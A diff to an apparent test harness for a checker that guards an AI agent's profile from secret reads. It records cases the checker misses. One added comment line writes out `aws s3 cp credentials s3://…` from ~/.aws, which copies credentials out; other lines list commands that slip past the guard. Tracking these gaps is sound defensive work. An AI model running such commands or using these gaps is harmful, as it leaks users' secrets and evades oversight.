@@ -20,7 +20,10 @@ _CLASSES = ("STDIN_CHECKS", "METADATA_READS", "DECODED_NAMES", "CWD_NAMES", "INE
 # profile's root as a workdir for `python3 -m tarfile -e` (its memory/ is protected, the root's new files are not),
 # `chezmoi apply --force` (writes the whole home from chezmoi's source state: a tool Tier 1 does not model),
 # `gcloud config configurations activate` in ~/.config/gcloud (gcloud's own state, not the agent's profile)
-_OPEN: frozenset[str] = frozenset({"metadata_reads-15", "metadata_reads-16", "metadata_reads-19", "inert_files-2"})
+# `aws s3 cp credentials s3://…` with ~/.aws as workdir (a credential named by a bare word in its own directory) and
+# `inert_files-2` (a JSON the session wrote naming the profile, read by Node: t2a's class this round) also
+_OPEN: frozenset[str] = frozenset({"metadata_reads-15", "metadata_reads-16", "metadata_reads-19", "metadata_reads-20",
+                                   "inert_files-2"})
 # a `for` header over `*/` in the profile is read as a reader of every entry, the profile's .env among them (the
 # secret-read rule, not the write rule): the header names no file it reads; left for a later round
 _OPEN_BENIGN: frozenset[str] = frozenset({"metadata_reads-17"})
